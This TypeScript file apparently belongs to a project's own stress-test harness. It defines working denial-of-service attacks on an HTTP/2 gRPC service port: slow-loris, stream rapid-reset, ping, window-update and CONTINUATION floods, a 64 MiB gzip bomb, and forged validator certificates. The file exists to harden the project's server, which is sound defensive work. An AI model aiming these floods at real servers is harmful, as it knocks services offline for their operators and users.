// Owns: what strangers do to a port, each for as long as it is let. Does not own: from which process (attacker.ts), what it cost (soak.ts).
import http2 from 'node:http2';
import { connect, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import { type Keypair, keypairFromUri } from '../../src/keys/index.js';
import { concat, utf8 } from '../../src/model/bytes.js';
import { systemClock } from '../../src/model/clock.js';
import { systemRandom } from '../../src/model/prng.js';
import { createSessionKeys, issueCertificate, PLAINTEXT_CHANNEL } from '../../src/protocol/certificate.js';
import { encodeSigned } from '../../src/protocol/codec.js';
import { seal } from '../../src/protocol/envelope.js';
import { toLimits } from '../../src/protocol/limits.js';

/** The port that is flooded, and from where. */
export interface Target {
  readonly host: string;
  readonly port: number;
  readonly netuid: number;
  /** public key */
  readonly miner: Uint8Array;
  /** of who may come in: names are no secret */
  readonly validator: Uint8Array;
  /** of our own, one taken after the other */
  readonly addresses: readonly string[];
}

export interface Attack {
  readonly name: string;
  /** what one of them is */
  readonly unit: string;
  /** Does it once. Whatever becomes of it is no error of the attacker's. */
  once(target: Target, turn: number): Promise<void>;
  /** how many are under way at once */
  readonly atOnce: number;
}

const PREFACE = utf8('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const SETTINGS = Uint8Array.of(0, 0, 0, 4, 0, 0, 0, 0, 0);
const FRAME = { headers: 1, rst: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 } as const;

function frame(type: number, flags: number, stream: number, payload: Uint8Array): Uint8Array {
  const head = new Uint8Array(9);
  const view = new DataView(head.buffer);
  view.setUint32(0, payload.length * 256 + type);
  head[4] = flags;
  view.setUint32(5, stream);
  return concat(head, payload);
}

/** HPACK literals without a table: what a client may write for the headers of a call. */
const literal = (name: string, value: string): Uint8Array =>
  concat(Uint8Array.of(0, name.length), utf8(name), Uint8Array.of(value.length), utf8(value));
const CALL = concat(
  ...[
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', '/assay.v1.MinerService/Prove'],
    [':authority', 'x'],
    ['content-type', 'application/grpc'],
    ['te', 'trailers'],
  ].map(([name, value]) => literal(name!, value!)),
);

const addressOf = ({ addresses }: Target, turn: number): string => addresses[turn % addresses.length]!;

function dial(target: Target, turn: number): Socket {
  const { host, port } = target;
  const socket = connect({ host, port, localAddress: addressOf(target, turn), noDelay: true });
  return socket.on('error', () => {}).resume();
}

const gone = (socket: Socket): Promise<void> =>
  new Promise((resolve) => {
    if (socket.destroyed) resolve();
    else socket.once('close', () => resolve());
  });
const connected = (socket: Socket): Promise<void> =>
  new Promise((resolve) => void socket.once('connect', () => resolve()).once('close', () => resolve()));
const written = (socket: Socket, bytes: Uint8Array): Promise<void> =>
  new Promise((resolve) => {
    // called with an error, too, when the socket goes first
    if (socket.destroyed) resolve();
    else socket.write(bytes, () => resolve());
  });

/** A connection, what is written at its beginning, and then the same again until it is dropped. */
const raw =
  (chunk: () => Uint8Array, { repeats = 64, pauseMs = 0 } = {}): Attack['once'] =>
  async (target, turn) => {
    const socket = dial(target, turn);
    await connected(socket);
    await written(socket, concat(PREFACE, SETTINGS));
    for (let i = 0; i < repeats && !socket.destroyed; i++) {
      await written(socket, chunk());
      if (pauseMs > 0) await systemClock.sleep(pauseMs);
    }
    socket.destroy();
  };

const many = (of: Uint8Array, count: number): Uint8Array =>
  concat(...Array.from({ length: count }, () => of));

/** One HTTP/2 session, and calls on it until it goes. */
const calls =
  (
    count: number,
    body: (target: Target) => { bytes: Uint8Array; headers?: http2.OutgoingHttpHeaders },
    method = 'Describe',
  ) =>
  async (target: Target, turn: number): Promise<void> => {
    const session = http2.connect(`http://${target.host}:${target.port}`, {
      createConnection: () => dial(target, turn),
    });
    session.on('error', () => {});
    const over = new Promise<void>((resolve) => void session.once('close', () => resolve()));
    const answered = Array.from({ length: count }, () => {
      if (session.destroyed) return over;
      const { bytes, headers = {} } = body(target);
      const stream = session.request({
        ':method': 'POST',
        ':path': `/assay.v1.MinerService/${method}`,
        'content-type': 'application/grpc',
        te: 'trailers',
        ...headers,
      });
      stream.on('error', () => {}).resume();
      const closed = new Promise<void>((resolve) => void stream.once('close', () => resolve()));
      stream.end(bytes);
      return closed;
    });
    await Promise.race([Promise.all(answered), over, systemClock.sleep(2000)]);
    session.destroy();
  };

const framed = (bytes: Uint8Array, compressed = 0): Uint8Array => {
  const head = new Uint8Array(5);
  head[0] = compressed;
  new DataView(head.buffer).setUint32(1, bytes.length);
  return concat(head, bytes);
};

function described(
  target: Target,
  sender: Uint8Array,
  key: Pick<ReturnType<ReturnType<typeof createSessionKeys>>, 'sign' | 'certificate'>,
): Uint8Array {
  const sentAt = Date.now();
  return encodeSigned(
    seal(
      {
        direction: 'request',
        method: 'describe',
        netuid: target.netuid,
        sender,
        receiver: target.miner,
        callId: systemRandom.bytes(16),
        sequence: 0,
        sentAt,
        expiresAt: sentAt + 30_000,
      },
      new Uint8Array(),
      key.sign,
      key.certificate,
    ),
  );
}

/** A certificate in the name of who may come in, with a signature that nobody made: dear to look at, cheap to write. */
function forged(target: Target): Uint8Array {
  const issuedAt = Date.now();
  const signed = issueCertificate(stranger(), {
    netuid: target.netuid,
    peer: target.miner,
    sessionKey: systemRandom.bytes(32),
    channel: PLAINTEXT_CHANNEL,
    issuedAt,
    expiresAt: issuedAt + 60_000,
  });
  template ??= Uint8Array.from(signed);
  const certificate = Uint8Array.from(template);
  certificate.set(target.validator, 10);
  certificate.set(systemRandom.bytes(32), 74);
  certificate.set(systemRandom.bytes(63), 154);
  return certificate;
}
let template: Uint8Array | undefined;
let own: Keypair | undefined;
function stranger(): Keypair {
  own ??= keypairFromUri('//floods//stranger');
  return own;
}

const NO_SIGNATURE = (): Uint8Array => new Uint8Array(64);

/** Zeros, so that they are small. */
const bombed = gzipSync(new Uint8Array(64 << 20));

/** Of one session key: made once, as a stranger would. */
let strangersKey: ReturnType<ReturnType<typeof createSessionKeys>> | undefined;
function keyOf(target: Target) {
  strangersKey ??= createSessionKeys(
    { keypair: stranger(), clock: systemClock, random: systemRandom, limits: toLimits() },
    { peer: target.miner, netuid: target.netuid, channel: PLAINTEXT_CHANNEL },
  )();
  return strangersKey;
}

export const ATTACKS: readonly Attack[] = [
  {
    name: 'slow-loris: a call whose headers never end',
    unit: 'connection',
    atOnce: 64,
    async once(target, turn) {
      const socket = dial(target, turn);
      await connected(socket);
      await written(socket, concat(PREFACE, SETTINGS));
      for (const byte of frame(FRAME.headers, 0, 1, CALL)) {
        if (socket.destroyed) return;
        await written(socket, Uint8Array.of(byte));
        await systemClock.sleep(250);
      }
      socket.destroy();
    },
  },
  {
    name: 'half-open: connections that say nothing',
    unit: 'connection',
    atOnce: 200,
    async once(target, turn) {
      const socket = dial(target, turn);
      await Promise.race([gone(socket), systemClock.sleep(4000)]);
      socket.destroy();
    },
  },
  {
    name: 'reconnects',
    unit: 'connection',
    atOnce: 16,
    async once(target, turn) {
      const socket = dial(target, turn);
      await connected(socket);
      await written(socket, concat(PREFACE, SETTINGS));
      socket.destroy();
      // a machine of its own would not be slower, but this one is ours, too
      await systemClock.sleep(2);
    },
  },
  {
    name: 'streams that bring nothing',
    unit: 'connection of 80 streams',
    atOnce: 16,
    async once(target, turn) {
      const socket = dial(target, turn);
      await connected(socket);
      const heads = Array.from({ length: 80 }, (_, i) => frame(FRAME.headers, 4, 2 * i + 1, CALL));
      await written(socket, concat(PREFACE, SETTINGS, ...heads));
      await Promise.race([gone(socket), systemClock.sleep(500)]);
      socket.destroy();
    },
  },
  {
    name: 'streams that are reset at once',
    unit: 'connection of 2,000 streams',
    atOnce: 8,
    async once(target, turn) {
      const socket = dial(target, turn);
      await connected(socket);
      const pairs = Array.from({ length: 2000 }, (_, i) =>
        concat(
          frame(FRAME.headers, 4, 2 * i + 1, CALL),
          frame(FRAME.rst, 0, 2 * i + 1, Uint8Array.of(0, 0, 0, 8)),
        ),
      );
      await written(socket, concat(PREFACE, SETTINGS, ...pairs));
      await Promise.race([gone(socket), systemClock.sleep(500)]);
      socket.destroy();
    },
  },
  {
    name: 'pings and settings',
    unit: 'connection of 128,000 frames',
    atOnce: 4,
    once: raw(() => many(concat(frame(FRAME.ping, 0, 0, new Uint8Array(8)), SETTINGS), 1000)),
  },
  {
    name: 'window updates',
    unit: 'connection of 64,000 frames',
    atOnce: 4,
    once: raw(() => many(frame(FRAME.windowUpdate, 0, 0, Uint8Array.of(0, 0, 0, 1)), 1000)),
  },
  {
    name: 'headers without end',
    unit: 'connection of 16 MiB of headers',
    atOnce: 4,
    async once(target, turn) {
      const socket = dial(target, turn);
      await connected(socket);
      await written(socket, concat(PREFACE, SETTINGS, frame(FRAME.headers, 0, 1, CALL)));
      const more = frame(FRAME.continuation, 0, 1, many(literal('x', 'y'.repeat(120)), 128));
      for (let sent = 0; sent < 16 << 20 && !socket.destroyed; sent += more.length)
        await written(socket, more);
      socket.destroy();
    },
  },
  {
    name: 'messages that are 64 MiB once unpacked',
    unit: 'connection of 8 calls',
    atOnce: 4,
    once: calls(8, () => ({ bytes: framed(bombed, 1), headers: { 'grpc-encoding': 'gzip' } })),
  },
  {
    name: 'calls by strangers, signed well',
    unit: 'connection of 40 calls',
    atOnce: 8,
    once: calls(40, (target) => ({ bytes: framed(described(target, stranger().publicKey, keyOf(target))) })),
  },
  {
    name: 'certificates forged in the name of a validator',
    unit: 'connection of 40 calls',
    atOnce: 8,
    once: calls(40, (target) => ({
      bytes: framed(described(target, target.validator, { sign: NO_SIGNATURE, certificate: forged(target) })),
    })),
  },
];
